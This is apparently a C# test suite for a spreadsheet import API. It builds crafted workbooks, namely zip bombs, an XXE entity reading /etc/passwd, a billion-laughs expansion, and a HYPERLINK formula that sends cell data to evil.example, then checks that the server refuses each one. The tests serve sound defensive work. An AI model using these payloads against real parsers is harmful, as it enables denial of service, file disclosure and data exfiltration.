using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json;
using MedanUmkm.Api.Tests.Infrastructure;
using static MedanUmkm.Api.Tests.Features.Imports.ImportTestFiles;

namespace MedanUmkm.Api.Tests.Features.Imports;

/// <summary>
/// Crafted workbooks (built here with System.IO.Compression) are refused with a 4xx problem and a
/// stable code, within seconds and without unpacking them into memory (issue #14, defect 4).
/// </summary>
[NonParallelizable] // alone: the allocation bound reads the process-wide counter, which parallel fixtures would inflate
public sealed class SpreadsheetSafetyTests : ApiTest
{
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    /// <summary>A workbook whose first sheet is written by <paramref name="sheet"/>; other parts may be added or replaced.</summary>
    private static byte[] Workbook(Action<StreamWriter> sheet, Dictionary<string, string>? parts = null,
        CompressionLevel level = CompressionLevel.Fastest)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            void Part(string path, string xml)
            {
                using var w = new StreamWriter(zip.CreateEntry(path, CompressionLevel.Fastest).Open(), new UTF8Encoding(false));
                w.Write(xml);
            }
            Part("[Content_Types].xml", """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>""");
            Part("_rels/.rels", """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>""");
            Part("xl/workbook.xml", """<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="data" sheetId="1" r:id="rId1"/></sheets></workbook>""");
            Part("xl/_rels/workbook.xml.rels", """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>""");
            foreach (var (path, xml) in parts ?? []) Part(path, xml);
            using var s = new StreamWriter(zip.CreateEntry("xl/worksheets/sheet1.xml", level).Open(), new UTF8Encoding(false), 1 << 16);
            sheet(s);
        }
        return buffer.ToArray();
    }

    /// <summary>The template's header row as inline strings.</summary>
    private static string HeaderRow() =>
        "<row r=\"1\">" + string.Concat(Columns.Select((c, i) => $"<c r=\"{(char)('A' + i)}1\" t=\"inlineStr\"><is><t>{c}</t></is></c>")) + "</row>";

    private static void Sheet(StreamWriter w, Action<StreamWriter> rows, string prolog = "")
    {
        w.Write($"<?xml version=\"1.0\" encoding=\"UTF-8\"?>{prolog}<worksheet xmlns=\"{Main}\"><sheetData>");
        w.Write(HeaderRow());
        rows(w);
        w.Write("</sheetData></worksheet>");
    }

    /// <summary>Uploads and expects a problem with the status and code, answered within 10 s without allocating 300 MB.</summary>
    private async Task<JsonElement> ExpectRefused(byte[] file, HttpStatusCode status, string code)
    {
        GC.Collect();
        var allocated = GC.GetTotalAllocatedBytes(precise: true);
        var watch = Stopwatch.StartNew();
        var response = await Upload(Officer, file, "umkm.xlsx", dryRun: true);
        watch.Stop();
        var used = GC.GetTotalAllocatedBytes(precise: true) - allocated;
        var problem = await Expect(response, status);
        Assert.That(problem.GetProperty("code").GetString(), Is.EqualTo(code), problem.ToString());
        Assert.That(watch.Elapsed, Is.LessThan(TimeSpan.FromSeconds(10)), "answered within seconds");
        Assert.That(used, Is.LessThan(300L * 1024 * 1024), $"allocated {used / (1024 * 1024)} MB while refusing it");
        return problem;
    }

    private static void RepeatedChars(StreamWriter w, long count, char c = 'A')
    {
        var chunk = new string(c, 1 << 20);
        for (long written = 0; written < count; written += chunk.Length) w.Write(chunk);
    }

    // The large crafted files take seconds of CPU to build, and this fixture runs alone: they are built
    // beside each other and beside the host's start, from when the fixture is created, and all of them are
    // done before the first test measures what a refusal allocates.
    private readonly Task<byte[]> _bomb2GiB = Task.Run(() => Workbook(w => Sheet(w, r =>
    {
        r.Write("<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>");
        RepeatedChars(r, 2L * 1024 * 1024 * 1024);
        r.Write("</t></is></c></row>");
    }), level: CompressionLevel.Optimal));

    private readonly Task<byte[]> _bombUnderLimit = Task.Run(() => Workbook(w => Sheet(w, r =>
    {
        r.Write("<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>");
        RepeatedChars(r, 64L * 1024 * 1024);
        r.Write("</t></is></c></row>");
    }), level: CompressionLevel.Optimal));

    private readonly Task<byte[]> _hugeSharedStrings = Task.Run(() =>
    {
        var sst = new StringBuilder($"<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"{Main}\">");
        for (var i = 0; i < 2_000_001; i++) sst.Append("<si><t>").Append(i).Append("</t></si>");
        sst.Append("</sst>");
        return Workbook(w => Sheet(w, r => r.Write("<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>")),
            new Dictionary<string, string> { ["xl/sharedStrings.xml"] = sst.ToString() });
    });

    private readonly Task<byte[]> _manyRows = Task.Run(() => Workbook(w => Sheet(w, r =>
    {
        for (var i = 2; i <= 200_002; i++) r.Write($"<row r=\"{i}\"><c r=\"A{i}\"><v>{i}</v></c></row>");
    })));

    [OneTimeSetUp]
    public async Task LargeFilesAreBuilt() => await Task.WhenAll(_bomb2GiB, _bombUnderLimit, _hugeSharedStrings, _manyRows);

    [Test]
    public async Task ZipBomb_OneCellOf2GiB_Returns413_WithinSeconds()
    {
        // The file: about 2 MB that unpacks to a worksheet with one 2 GiB cell.
        var file = await _bomb2GiB;
        Assert.That(file.Length, Is.LessThan(5 * 1024 * 1024));

        var problem = await ExpectRefused(file, HttpStatusCode.RequestEntityTooLarge, "xlsx_too_large");
        Assert.That(problem.GetProperty("detail").GetString(), Does.Contain("xl/worksheets/sheet1.xml"));
    }

    [Test]
    public async Task ZipBomb_UnderTheSizeLimit_IsRefusedForItsCompressionRatio()
    {
        await ExpectRefused(await _bombUnderLimit, HttpStatusCode.RequestEntityTooLarge, "xlsx_compression_ratio");
    }

    [Test]
    public async Task CellLongerThanExcelAllows_Returns413()
    {
        var file = Workbook(w => Sheet(w, r =>
        {
            r.Write("<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>");
            RepeatedChars(r, 300 * 1024);
            r.Write("</t></is></c></row>");
        }), level: CompressionLevel.NoCompression);

        await ExpectRefused(file, HttpStatusCode.RequestEntityTooLarge, "xlsx_cell_too_long");
    }

    [Test]
    public async Task ExternalEntity_Xxe_Returns400()
    {
        var file = Workbook(w => Sheet(w,
            r => r.Write("<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>"),
            prolog: "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"));

        await ExpectRefused(file, HttpStatusCode.BadRequest, "xlsx_dtd_not_allowed");
    }

    [Test]
    public async Task BillionLaughs_InSharedStrings_Returns400()
    {
        var entities = new StringBuilder("<!DOCTYPE sst [<!ENTITY lol0 \"lol\">");
        for (var i = 1; i <= 9; i++) entities.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">");
        entities.Append("]>");
        var sst = $"<?xml version=\"1.0\" encoding=\"UTF-8\"?>{entities}<sst xmlns=\"{Main}\" count=\"1\" uniqueCount=\"1\"><si><t>&lol9;</t></si></sst>";
        var file = Workbook(w => Sheet(w, r => r.Write("<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>")),
            new Dictionary<string, string> { ["xl/sharedStrings.xml"] = sst });

        await ExpectRefused(file, HttpStatusCode.BadRequest, "xlsx_dtd_not_allowed");
    }

    [Test]
    public async Task HugeSharedStringsTable_Returns413()
    {
        await ExpectRefused(await _hugeSharedStrings, HttpStatusCode.RequestEntityTooLarge, "xlsx_too_many_shared_strings");
    }

    [Test]
    public async Task FormulaCell_Returns400_AndIsNeverEvaluated()
    {
        var business = TestData.Business();
        var values = Columns.Select(c => Cell(business, c)).ToArray();
        var file = Workbook(w => Sheet(w, r =>
        {
            r.Write("<row r=\"2\">");
            for (var i = 0; i < values.Length; i++)
            {
                var reference = $"{(char)('A' + i)}2";
                if (Columns[i] == "name")
                    r.Write($"<c r=\"{reference}\" t=\"str\"><f>HYPERLINK(\"http://evil.example/?\"&amp;C2,\"x\")</f><v>x</v></c>");
                else
                    r.Write($"<c r=\"{reference}\" t=\"inlineStr\"><is><t>{System.Security.SecurityElement.Escape(values[i])}</t></is></c>");
            }
            r.Write("</row>");
        }));

        var problem = await ExpectRefused(file, HttpStatusCode.BadRequest, "xlsx_formula_not_allowed");
        Assert.That(problem.GetProperty("detail").GetString(), Does.Contain("Paste Special > Values"));
    }

    [Test]
    public async Task TooManyRows_Returns413()
    {
        await ExpectRefused(await _manyRows, HttpStatusCode.RequestEntityTooLarge, "xlsx_too_many_rows");

        // One row numbered 1,048,576 would make the reader produce a million empty rows.
        var far = Workbook(w => Sheet(w, r => r.Write("<row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row>")));
        await ExpectRefused(far, HttpStatusCode.RequestEntityTooLarge, "xlsx_too_many_rows");

        // A cell in column XFD would make every row 16,384 cells wide.
        var wide = Workbook(w => Sheet(w, r => r.Write("<row r=\"2\"><c r=\"XFD2\"><v>1</v></c></row>")));
        await ExpectRefused(wide, HttpStatusCode.RequestEntityTooLarge, "xlsx_too_many_columns");
    }

    [Test]
    public async Task CraftedButHonestWorkbook_IsStillImported()
    {
        var business = TestData.Business();
        var values = Columns.Select(c => Cell(business, c)).ToArray();
        var file = Workbook(w => Sheet(w, r =>
        {
            r.Write("<row r=\"2\">");
            for (var i = 0; i < values.Length; i++)
                r.Write($"<c r=\"{(char)('A' + i)}2\" t=\"inlineStr\"><is><t>{System.Security.SecurityElement.Escape(values[i])}</t></is></c>");
            r.Write("</row>");
        }));

        var job = await ImportAsync(Officer, file, "umkm.xlsx", dryRun: true);

        Assert.That(job.GetProperty("status").GetString(), Is.EqualTo("succeeded"), job.ToString());
        Assert.That(job.GetProperty("created").GetInt32(), Is.EqualTo(1));
    }
}
